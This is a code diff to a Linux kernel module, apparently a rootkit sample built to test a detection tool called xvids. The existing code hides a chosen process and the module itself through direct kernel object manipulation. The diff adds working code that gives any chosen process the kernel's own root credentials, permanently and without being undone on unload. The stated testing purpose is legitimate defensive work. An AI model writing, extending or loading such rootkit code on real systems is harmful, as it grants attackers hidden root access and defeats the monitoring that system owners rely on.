@@ -11,6 +11,10 @@
  *   hide_self=1  unlink this module from the module list. /proc/modules no
  *                longer lists it; the sysfs kobject (/sys/module/xvrk) stays.
  *                The module can then never be unloaded.
+ *   cred_pid=N   give task N the kernel's own credentials: its cred and
+ *                real_cred both become init_task's, i.e. &init_cred (the
+ *                pointer itself, not a copy as prepare_kernel_cred() makes).
+ *                N runs as root from then on; it is not undone on unload.
  *
  * tasklist_lock and module_mutex are not exported to modules on Linux 6.1, so
  * every list update runs inside stop_machine(): all other CPUs spin with
@@ -20,6 +24,7 @@
  * readers that stood on the node still find the old successor, and a later
  * list_del_rcu() by the kernel (task reap) passes CONFIG_DEBUG_LIST checks.
  */
+#include <linux/cred.h>
 #include <linux/module.h>
 #include <linux/moduleparam.h>
 #include <linux/pid.h>
@@ -36,6 +41,10 @@ MODULE_PARM_DESC(hide_pid, "pid of a thread-group leader to unlink from the task
 static bool hide_self;
 module_param(hide_self, bool, 0444);
 MODULE_PARM_DESC(hide_self, "unlink this module from the module list (no unload afterwards)");
+
+static int cred_pid;
+module_param(cred_pid, int, 0444);
+MODULE_PARM_DESC(cred_pid, "pid of a task to run with the kernel's init_cred from now on");
 
 /* The hidden task, with a reference held so module exit can re-link it. */
 static struct task_struct *hidden_task;
@@ -76,6 +85,63 @@ static int unlink_self_stopped(void *data)
 	struct module *mod = data;
 
 	list_del_rcu(&mod->list);
+	return 0;
+}
+
+struct cred_swap {
+	struct task_struct *t;
+	const struct cred *kcred, *old_real, *old;
+};
+
+static int swap_cred_stopped(void *data)
+{
+	struct cred_swap *c = data;
+
+	if (c->t->exit_state || (c->t->flags & PF_EXITING))
+		return -ESRCH;
+	c->old_real = rcu_dereference_protected(c->t->real_cred, 1);
+	c->old = rcu_dereference_protected(c->t->cred, 1);
+	rcu_assign_pointer(c->t->real_cred, c->kcred);
+	rcu_assign_pointer(c->t->cred, c->kcred);
+	return 0;
+}
+
+/* Another task's credentials are never changed by the kernel itself (commit_creds() works on
+ * current only); with every other CPU stopped no reader is half-way through them. */
+static int xvrk_give_init_cred(pid_t nr)
+{
+	struct cred_swap c = { 0 };
+	struct pid *pid;
+	int ret;
+
+	if (nr <= 0 || nr == task_tgid_nr(current)) {
+		pr_err("xvrk: cred_pid must be the pid of another task, not %d\n", nr);
+		return -EINVAL;
+	}
+	pid = find_get_pid(nr);
+	c.t = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;
+	put_pid(pid);
+	if (!c.t) {
+		pr_err("xvrk: no task with pid %d\n", nr);
+		return -EINVAL;
+	}
+	/* init_task runs on init_cred; one reference for each pointer that will hold it. */
+	c.kcred = rcu_dereference_protected(init_task.cred, 1);
+	get_cred(c.kcred);
+	get_cred(c.kcred);
+	ret = stop_machine(swap_cred_stopped, &c, NULL);
+	if (ret) {
+		put_cred(c.kcred);
+		put_cred(c.kcred);
+		put_task_struct(c.t);
+		pr_err("xvrk: pid %d is exiting, credentials not changed\n", nr);
+		return -EINVAL;
+	}
+	/* Readers of the old credentials hold RCU; put_cred() frees them after a grace period. */
+	put_cred(c.old_real);
+	put_cred(c.old);
+	pr_info("xvrk: pid %d (%s) now runs with init_cred\n", nr, c.t->comm);
+	put_task_struct(c.t);
 	return 0;
 }
 
@@ -141,8 +207,13 @@ static int __init xvrk_init(void)
 {
 	int ret;
 
-	pr_info("xvrk: xvids DKOM test module loaded (test tool; hide_pid=%d hide_self=%d)\n",
-		hide_pid, hide_self);
+	pr_info("xvrk: xvids DKOM test module loaded (test tool; hide_pid=%d hide_self=%d "
+		"cred_pid=%d)\n", hide_pid, hide_self, cred_pid);
+	if (cred_pid) {
+		ret = xvrk_give_init_cred(cred_pid);
+		if (ret)
+			return ret;
+	}
 	if (hide_pid) {
 		ret = xvrk_hide_task(hide_pid);
 		if (ret)
